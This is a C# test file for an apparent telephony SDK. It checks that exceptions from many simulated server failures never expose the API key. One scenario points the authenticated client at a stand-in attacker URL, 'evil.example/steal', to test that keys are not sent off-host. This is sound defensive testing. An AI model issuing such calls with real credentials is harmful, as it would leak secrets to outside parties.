using System.Net;
using System.Net.Sockets;
using System.Text;
using Microsoft.Extensions.DependencyInjection;
using Telephony.Sdk.Tests.Support;
using WireMock.ResponseBuilders;

namespace Telephony.Sdk.Tests.Errors.Mapping;

/// <summary>
/// Provokes every kind of failure covered in this folder with a server that echoes the key wherever it can, collects
/// each exception, and scans them all: message, ToString(), Data and every public property, inner exceptions included.
/// </summary>
public sealed class SecretScanTests
{
    private static readonly int[] Statuses = [400, 401, 403, 404, 409, 422, 429, 500, 502, 503];

    [Fact]
    public async Task EveryFailureScenario_ExceptionGraph_NeverContainsTheApiKey()
    {
        var scenarios = Scenarios().ToList();
        var thrown = new List<(string Scenario, Exception Exception, string Key)>();
        var missing = new List<string>();

        foreach (var (name, run) in scenarios)
        {
            var key = ErrorMappingServer.NewApiKey();
            var exception = await Record.ExceptionAsync(() => run(key, TestContext.Current.CancellationToken));
            if (exception is null)
            {
                missing.Add(name);
            }
            else
            {
                thrown.Add((name, exception, key));
            }
        }

        Assert.True(missing.Count == 0, "These scenarios did not throw: " + string.Join(", ", missing));
        Assert.Equal(scenarios.Count, thrown.Count);
        Assert.All(thrown, item =>
        {
            var leak = Record.Exception(() => SecretAssert.DoesNotLeak(item.Exception, item.Key));
            Assert.True(leak is null, $"{item.Scenario}: {leak?.Message}");
        });
    }

    private static IEnumerable<(string Name, Func<string, CancellationToken, Task> Run)> Scenarios()
    {
        foreach (var route in ErrorRoutes.All)
        {
            foreach (var status in Statuses)
            {
                yield return ($"{status} echoing envelope via {route}", (key, ct) => WithWireMockAsync(
                    key, route, ct, response => response.WithStatusCode(status)
                        .WithHeader("Content-Type", "application/json").WithHeader("X-Request-Id", "req for " + key)
                        .WithHeader("Retry-After", "5")
                        .WithBody("""{"error":{"code":"denied","message":"Bearer """ + key + "\",\"key\":\"" + key + "\"}}")));
            }

            yield return ($"HTML echo via {route}", (key, ct) => WithWireMockAsync(key, route, ct, response => response.WithStatusCode(502)
                .WithHeader("Content-Type", "text/html").WithBody($"<html><title>{key}</title><body>Authorization: Bearer {key}</body></html>")));
            yield return ($"200 with key as balance via {route}", (key, ct) => WithWireMockAsync(key, route, ct, response => response
                .WithStatusCode(200).WithHeader("Content-Type", "application/json").WithBody("""{"balance":""" + key + "}")));
            yield return ($"malformed chunk echoing key via {route}", (key, ct) => WithWireMockAsync(key, route, ct, response => response
                .WithStatusCode(200).WithBody($"{{\"balance\":\"{key}\"}}").WithFault(FaultType.MALFORMED_RESPONSE_CHUNK)));
            yield return ($"invalid UTF-8 envelope via {route}", (key, ct) => WithWireMockAsync(key, route, ct, response => response
                .WithStatusCode(400).WithBody([.. Encoding.UTF8.GetBytes("{\"error\":{\"message\":\"" + key), 0xE9, .. "\"}}"u8])));
            yield return ($"connection refused via {route}", (key, ct) => RefusedAsync(key, route, ct));
            yield return ($"reset in 200 body via {route}", (key, ct) => WithRawAsync(RawHttpServer.ResetMidBody(200, $"{{\"k\":\"{key}"), key, route, ct));
            yield return ($"reset in 500 body via {route}", (key, ct) => WithRawAsync(RawHttpServer.ResetMidBody(500, $"Bearer {key}"), key, route, ct));
            yield return ($"caller cancels via {route}", async (key, _) =>
            {
                using var cancellation = new CancellationTokenSource(TimeSpan.FromMilliseconds(100));
                await WithRawAsync(RawHttpServer.NeverAnswer(), key, route, cancellation.Token);
            });
        }

        yield return ("SendAsync to another host", async (key, ct) =>
        {
            using var server = ErrorMappingServer.Start();
            using var client = server.CreateClient(key);
            await client.SendAsync(HttpMethod.Get, "https://evil.example/steal", content: null, ct);
        });
        yield return ("401 echo through DI", async (key, ct) =>
        {
            using var server = ErrorMappingServer.Start();
            server.RespondToBalance(401, Encoding.UTF8.GetBytes($"denied for Bearer {key}"), "text/plain");
            var services = new ServiceCollection();
            services.AddTelephonyClient(options =>
            {
                (options.ApiKey, options.BaseAddress) = (key, server.BaseAddress);
                options.Resilience.MaxRetryAttempts = 0;
            });
            using var provider = services.BuildServiceProvider();
            await provider.GetRequiredService<TelephonyClient>().Account.GetBalanceAsync(ct);
        });
    }

    private static async Task WithWireMockAsync(string key, ErrorRoute route, CancellationToken ct, Func<IResponseBuilder, IResponseBuilder> response)
    {
        using var server = ErrorMappingServer.Start();
        server.Respond(ErrorMappingServer.BalancePath, response);
        using var client = server.CreateClient(key);
        await ErrorRoutes.InvokeAsync(client, route, ct);
    }

    private static async Task WithRawAsync(RawHttpServer server, string key, ErrorRoute route, CancellationToken ct)
    {
        await using (server)
        {
            using var client = server.CreateClient(key);
            await ErrorRoutes.InvokeAsync(client, route, ct);
        }
    }

    private static async Task RefusedAsync(string key, ErrorRoute route, CancellationToken ct)
    {
        using var client = new TelephonyClient(MappingClientOptions.Create(key, ClosedPort.ApiBaseAddress()));
        await ErrorRoutes.InvokeAsync(client, route, ct);
    }
}
